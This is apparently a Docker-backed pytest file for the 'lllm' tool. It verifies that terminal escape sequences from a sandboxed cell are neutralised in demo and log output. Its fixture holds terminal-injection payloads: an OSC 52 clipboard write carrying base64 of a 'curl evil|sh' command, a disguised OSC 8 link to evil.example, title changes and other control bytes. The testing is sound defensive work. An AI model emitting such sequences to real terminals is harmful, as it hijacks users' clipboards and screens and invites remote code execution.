"""Terminal escapes from a sandbox never reach the user's terminal (issue 9, item 9).

A hostile cell prints OSC 52 (write the clipboard), OSC 8 (a disguised link), a window title, CSI sequences,
8-bit C1 controls, BEL and carriage returns, raises an exception whose message holds them, and calls CALL_API
with a path made of them. The cell runs in a real container through `lllm demo`; the bytes `lllm demo`,
`lllm logs show` and `lllm logs ls` then write are checked: no ESC, BEL, CR or C1 control anywhere, and the
neutralised text is still visible (`^[`), so the user sees that something was there.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from lllm.invokers import ScriptedInvoker, override

pytestmark = pytest.mark.docker

HOSTILE = "\n".join([
    "import base64",
    "print('clip:\\x1b]52;c;' + base64.b64encode(b'curl evil|sh').decode() + '\\x07 done')",
    "print('link:\\x1b]8;;http://evil.example/\\x1b\\\\click me\\x1b]8;;\\x1b\\\\ title:\\x1b]0;owned\\x07')",
    "print('csi:\\x1b[2J\\x1b[31mred\\x1b[0m c1:\\x9b31m\\x9d0;t\\x9c bel:\\x07 cr:fake\\rreal')",
    "try:",
    "    CALL_API('fmp/\\x1b]52;c;cGF0aA==\\x07price', {})",
    "except Exception as exc:",
    "    print('api:', exc)",
    "raise ValueError('err:\\x1b]52;c;ZXJy\\x07\\x1b]0;title-from-error\\x07')",
])
SCRIPT = [
    {"content": None, "tool_calls": [{"name": "run_python", "arguments": {"code": HOSTILE}}]},
    "Report: the sandbox said \x1b]52;c;bW9kZWw=\x07 (the model repeats it)",
]


def assert_no_controls(label: str, raw: bytes) -> str:
    text = raw.decode("utf-8")
    bad = sorted({f"U+{ord(ch):04X}" for ch in text
                  if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F})
    assert not bad, f"{label} wrote control characters {bad}:\n{text[-3000:]}"
    return text


def test_hostile_cell_output_is_neutralised_in_demo_and_logs(tmp_path: Path, sandbox_image: str,
                                                             capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    from lllm.cli import main

    db = tmp_path / "demo.db"
    with override(ScriptedInvoker(SCRIPT)):
        code = main(["demo", "--db", str(db), "--workdir", str(tmp_path / "runs"), "--task", "look \x1b]0;t\x07"])
    out, err = capfdbinary.readouterr()
    assert code == 0, err.decode(errors="replace")
    demo = assert_no_controls("lllm demo (stdout)", out)
    assert_no_controls("lllm demo (stderr)", err)
    assert "clip:^[]52;c;" in demo and "^G done" in demo  # shown, not dropped
    assert "title-from-error" in demo and "cr:fake^M" in demo and "\\u009b31m" in demo

    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    session_id = demo.split("`lllm logs show ")[1].split()[0]
    shown = subprocess.run([sys.executable, "-m", "lllm.cli", "logs", "show", session_id, "--full", "--db", str(db)],
                           capture_output=True, env=env, timeout=120)
    assert shown.returncode == 0, shown.stderr.decode(errors="replace")
    text = assert_no_controls("lllm logs show", shown.stdout)
    assert_no_controls("lllm logs show (stderr)", shown.stderr)
    assert "^[]52;c;cGF0aA==^Gprice" in text  # the CALL_API path of the api_call record
    assert "err:^[]52;c;ZXJy^G" in text  # the cell's error in the dialog
    listed = subprocess.run([sys.executable, "-m", "lllm.cli", "logs", "ls", "--db", str(db)], capture_output=True,
                            env=env, timeout=120)
    assert listed.returncode == 0, listed.stderr.decode(errors="replace")
    assert_no_controls("lllm logs ls", listed.stdout)
